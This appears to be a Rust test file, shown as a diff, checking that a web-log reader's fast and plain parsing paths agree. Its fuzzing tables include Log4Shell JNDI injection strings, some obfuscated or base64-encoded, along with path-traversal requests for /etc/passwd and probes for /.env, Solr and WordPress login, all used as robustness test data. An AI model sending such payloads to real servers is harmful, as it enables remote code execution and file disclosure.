@@ -1,0 +1,331 @@
+//! Both ways of reading give the same to the bit.
+
+use std::collections::BTreeMap;
+
+use relight_model::OrgId;
+use testkit::Rng;
+
+use super::*;
+use crate::parsers::{Feed, named};
+use crate::reader::Tally;
+use crate::sim::tests::scenario;
+use crate::sim::{Products, Scenario};
+
+/// Everything that reading a segment leaves behind.
+#[derive(Debug, PartialEq)]
+struct Left {
+    window: Vec<u8>,
+    days: Vec<(DayKey, DayFacts)>,
+    probes: Vec<(&'static str, i64, SiteId)>,
+    tally: Tally,
+    cut: u64,
+}
+
+/// Reads segments with one reader, the quick way or every line the plain way; gives how many
+/// events were read quickly too.
+fn read(mut reader: Reader, segments: &[&[u8]], is_quick: bool) -> (Vec<Left>, u64) {
+    let (mut memory, mut left, mut quick) = (Memory::default(), Vec::new(), 0);
+    for (number, bytes) in segments.iter().enumerate() {
+        let (mut window, mut daybook) = (Window::new(number as u64), Daybook::new());
+        let mut reading = Reading::new(&mut reader, &mut memory, &mut window, &mut daybook);
+        if is_quick {
+            reading.lines(bytes);
+        } else {
+            let whole = bytes.strip_suffix(b"\n").unwrap_or(bytes);
+            whole.split(|byte| *byte == b'\n').for_each(|raw| reading.plainly(raw));
+        }
+        quick += reading.counters.events;
+        let cut = reading.finish();
+        left.push(Left {
+            window: window.to_bytes(),
+            days: daybook.rows().to_vec(),
+            probes: daybook.probes().collect(),
+            tally: reader.tally().clone(),
+            cut,
+        });
+    }
+    (left, quick)
+}
+
+/// Both ways give the same; gives how many events were read quickly.
+fn compare(feed: &Feed, format: Option<&str>, segments: &[&[u8]], what: &str) -> u64 {
+    let reader = || match format {
+        Some(name) => Reader::of(feed.clone(), named(name).unwrap()),
+        None => Reader::new(feed.clone()),
+    };
+    let (quick, count) = read(reader(), segments, true);
+    let (plain, none) = read(reader(), segments, false);
+    assert_eq!(none, 0);
+    for (number, (quick, plain)) in quick.iter().zip(&plain).enumerate() {
+        assert_eq!(quick.tally, plain.tally, "{what}, segment {number}");
+        assert_eq!(quick.days, plain.days, "{what}, segment {number}");
+        let windows = [&quick.window, &plain.window];
+        let [quick_window, plain_window] = windows.map(|it| Window::from_bytes(it).unwrap());
+        assert_eq!(quick_window.contacts, plain_window.contacts, "{what}, segment {number}");
+        assert!(quick == plain, "{what}, segment {number}");
+    }
+    count
+}
+
+fn feed() -> Feed {
+    let host = "www.example.test".to_owned();
+    Feed { org: OrgId(7), site: Some(SiteId(3)), host, ..Feed::default() }
+}
+
+/// Up to three segments, cut at line ends.
+fn cut(bytes: &[u8]) -> Vec<&[u8]> {
+    let third = |of: usize| {
+        let from = bytes.len() * of / 3;
+        let end = bytes[from..].iter().position(|byte| *byte == b'\n');
+        end.map_or(bytes.len(), |end| from + end + 1)
+    };
+    let [one, two] = [third(1), third(2)];
+    let segments = [&bytes[..one], &bytes[one..two], &bytes[two..]];
+    segments.into_iter().filter(|segment| !segment.is_empty()).collect()
+}
+
+#[test]
+fn simulated_logs_of_every_product() {
+    let (mut quick, mut lines) = (0, 0);
+    for (seed, logs) in [(11, Products::Many), (12, Products::Many), (13, Products::Combined)] {
+        let scenario = Scenario { logs, visitors_per_day: 20, ..scenario(seed, 3) };
+        for log in scenario.generate().logs {
+            let (org, site, host) = (log.org, Some(log.site), log.host.clone());
+            // Received in the midst of it: what comes later has a wrong clock.
+            let received = scenario.from + 2 * DAY_S;
+            let feed = Feed { org, site, host, received, ..Feed::default() };
+            let what = format!("seed {seed}, {} of {}", log.format, log.host);
+            let segments = cut(&log.bytes);
+            let count = compare(&feed, None, &segments, &what);
+            assert_eq!(compare(&feed, Some(log.format), &segments, &what) > 0, count > 0);
+            if log.format == COMBINED {
+                quick += count;
+                lines += log.bytes.iter().filter(|byte| **byte == b'\n').count() as u64;
+            } else {
+                assert_eq!(count, 0, "{what}");
+            }
+        }
+    }
+    assert!(quick * 10 > lines * 8, "most lines are ordinary: {quick} of {lines}");
+}
+
+const SOURCES: [&str; 11] = [
+    "192.0.2.1",
+    "192.0.2.2",
+    "192.0.2.77",
+    "2001:db8::1",
+    "2001:db8::2",
+    "::ffff:192.0.2.1",
+    "192.0.2.01",
+    "192.0.2.256",
+    "host",
+    "",
+    "192.0.2.1:80",
+];
+const USERS: [&str; 8] =
+    ["- -", "- -", "- -", "- -", "- bob", "id -", "- [10/Dec/2021:02:05:58 +0000]", "- a \"b\""];
+const TARGETS: [&str; 36] = [
+    "/",
+    "/",
+    "/a",
+    "/a",
+    "/b/1",
+    "/b/2",
+    "/B/3?x=1",
+    "/x?y=1&z=2",
+    "/x?y=%41",
+    "/a%20b",
+    "/a b",
+    "/.env",
+    "/%2eenv",
+    "/a//b",
+    "/./x",
+    "/a/../b",
+    "/robots.txt",
+    "/ROBOTS.txt",
+    "/.well-known/x",
+    "/${jndi:ldap://x.example/a}",
+    "/a?b=${jndi:ldap://x.example/a}",
+    "/a?%24%7bjndi:ldap://x/a}",
+    "/a?x=&#36;{jndi:ldap://x/a}",
+    "/a\\x22b",
+    "/a\\\"b",
+    "/?basic abc",
+    "/?Basic JHtqbmRpOmxkYXA6Ly94L2F9",
+    "*",
+    "http://a.test/b",
+    "",
+    "/caf\u{e9}",
+    "/../../etc/passwd",
+    "/%2e%2e/%2e%2e/etc/passwd",
+    "/x?f=../../etc/passwd",
+    "/solr/admin/cores?x=1",
+    "/wp-login.php",
+];
+const METHODS: [&str; 8] = ["GET ", "GET ", "GET ", "POST ", "HEAD ", "M-SEARCH ", "", "G3T "];
+const VERSIONS: [&str; 6] = [" HTTP/1.1", " HTTP/1.1", " HTTP/2.0", " HTTP/2", "", " FTP/1"];
+const STATUSES: [&str; 14] = [
+    "200", "200", "200", "200", "304", "404", "404", "403", "410", "500", "-", "1000", "099", "20",
+];
+const SIZES: [&str; 6] = ["0", "12", "12", "-", "999999999999999999999", "1x"];
+const REFERERS: [&str; 7] = [
+    "-",
+    "-",
+    "",
+    "https://www.example.test/a",
+    "https://other.test/?a=1&b=%20",
+    "Basic JHtqbmRpOmxkYXA6Ly94L2F9",
+    "${jndi:ldap://y.example/b}",
+];
+const AGENTS: [&str; 8] = [
+    "Mozilla/5.0 (X11)",
+    "Mozilla/5.0 (X11)",
+    "curl/8",
+    "-",
+    "",
+    "Tool \\x22a",
+    "bASIC JHtqbmRpOmxkYXA6Ly94L2F9",
+    "${${lower:j}ndi:ldap://z.example/c}",
+];
+const TAILS: [&str; 8] = [
+    "",
+    "",
+    "",
+    "",
+    "",
+    " x",
+    " \"${jndi:ldap://w.example/d}\"",
+    " 12 \"r@f\" \"http://10.0.0.2:80\" 3ms",
+];
+const OTHERS: [&str; 8] = [
+    "",
+    "\r",
+    "garbage",
+    "#Fields: date time c-ip cs-method cs-uri-stem sc-status",
+    "2021-12-10 02:05:58 192.0.2.1 GET /i 200",
+    "192.0.2.1 - - [10/Dec/2021:02:00:00 +0000] \"GET \
+     /c HTTP/1.1\" 200 1",
+    "{\"a\":\"${jndi:ldap://v.example/e}\"}",
+    "version 2",
+];
+const JOURNAL: [&str; 4] =
+    ["__CURSOR=s=1", "__REALTIME_TIMESTAMP=1639101958123456", "MESSAGE=garbage", "_PID=7"];
+
+fn stamp(rng: &mut Rng) -> String {
+    let day =
+        *rng.pick(&["10/Dec/2021", "10/Dec/2021", "10/Dec/2021", "11/Dec/2021", "07/Dec/2021"]);
+    let zone = if rng.chance(95) { "+0000" } else { *rng.pick(&["-0500", "+0x00"]) };
+    let (hour, minute) = (rng.below(3) + 22 * rng.below(2), rng.below(2) + 58);
+    format!("{day}:{hour:02}:{minute:02}:{:02} {zone}", rng.below(60) + 2 * rng.below(2))
+}
+
+fn hostile_line(rng: &mut Rng) -> String {
+    if rng.chance(5) {
+        return (*rng.pick(&OTHERS)).to_owned();
+    }
+    let mut long = String::new();
+    if rng.chance(3) {
+        long = "a".repeat(*rng.pick(&[250, 300, LINE_BYTES_MAX]));
+    }
+    let stamp = stamp(rng);
+    let mut pick = |list: &[&'static str]| -> &'static str {
+        // The first two are ordinary ones.
+        let choices = if rng.chance(80) { 2 } else { list.len() };
+        list[rng.below(choices)]
+    };
+    format!(
+        "{} {} [{stamp}] \"{}{}{long}{}\" {} {} \"{}\" \"{}\"{}",
+        pick(&SOURCES),
+        pick(&USERS),
+        pick(&METHODS),
+        pick(&TARGETS),
+        pick(&VERSIONS),
+        pick(&STATUSES),
+        pick(&SIZES),
+        pick(&REFERERS),
+        pick(&AGENTS),
+        pick(&TAILS),
+    )
+}
+
+/// Lines of all shapes, some with a byte put in or taken out, some twice.
+fn hostile_log(rng: &mut Rng, lines: usize, is_journal: bool) -> Vec<u8> {
+    let mut log: Vec<Vec<u8>> = Vec::new();
+    for _ in 0..lines {
+        let mut line = hostile_line(rng).into_bytes();
+        if is_journal && rng.chance(3) {
+            line = rng.pick(&JOURNAL).as_bytes().to_vec();
+        }
+        if rng.chance(8) && !line.is_empty() {
+            let at = rng.below(line.len());
+            if rng.chance(50) {
+                line.insert(at, *rng.pick(b"\"\\ []\0\xff\r$%&{-\xc3"));
+            } else {
+                line.remove(at);
+            }
+        }
+        if rng.chance(5) && !log.is_empty() {
+            line = rng.pick(&log).clone();
+        }
+        log.push(line);
+    }
+    let mut bytes = log.join(&b'\n');
+    if rng.chance(50) {
+        bytes.push(b'\n');
+    }
+    bytes
+}
+
+#[test]
+fn hostile_lines() {
+    let mut quick = 0;
+    for seed in 0..60 {
+        let mut rng = Rng::new(seed);
+        let log = hostile_log(&mut rng, 300, seed % 5 == 0);
+        let sites = BTreeMap::from([("www.example.test".to_owned(), SiteId(9))]);
+        let received = 1_639_101_600;
+        let feeds = [
+            Feed { received, ..feed() },
+            Feed { site: None, sites, ..feed() },
+            Feed { site: None, host: String::new(), ..feed() },
+        ];
+        let segments = cut(&log);
+        for (number, feed) in feeds.iter().enumerate() {
+            let what = format!("seed {seed}, feed {number}");
+            quick += compare(feed, None, &segments, &what);
+            quick += compare(feed, Some("combined"), &segments, &what);
+            assert_eq!(compare(feed, Some("common"), &segments, &what), 0);
+        }
+    }
+    assert!(quick > 2_000, "{quick}");
+}
+
+#[test]
+fn a_host_that_is_none_is_read_the_plain_way() {
+    let line = "192.0.2.1 - - [10/Dec/2021:02:00:00 +0000] \"GET /c HTTP/1.1\" 200 1 \"-\" \"-\"\n";
+    for (host, quick) in [("www.example.test", 2), ("", 2), ("basic x", 0), ("${jndi:x}", 0)] {
+        let feed = Feed { host: host.to_owned(), ..feed() };
+        let log = line.repeat(3);
+        assert_eq!(compare(&feed, None, &[log.as_bytes()], host), quick);
+    }
+}
+
+/// More sources, targets and clients than are remembered, each several times.
+#[test]
+fn more_than_is_remembered() {
+    use super::super::memory::{AGENTS_MAX, SOURCES_MAX, TARGETS_MAX};
+    let mut rng = Rng::new(3);
+    let mut log = String::new();
+    for _ in 0..40_000 {
+        let (target, agent) = (rng.below(2 * TARGETS_MAX), rng.below(2 * AGENTS_MAX));
+        let source = rng.below(2 * SOURCES_MAX);
+        let status = *rng.pick(&[200, 200, 200, 404]);
+        log.push_str(&format!(
+            "10.0.{}.{} - - [10/Dec/2021:02:00:00 +0000] \"GET /x{target}y HTTP/1.1\" {status} 1 \
+             \"-\" \"agent {agent}\"\n",
+            source >> 8,
+            source & 0xff,
+        ));
+    }
+    assert!(compare(&feed(), None, &cut(log.as_bytes()), "many") > 39_000);
+}
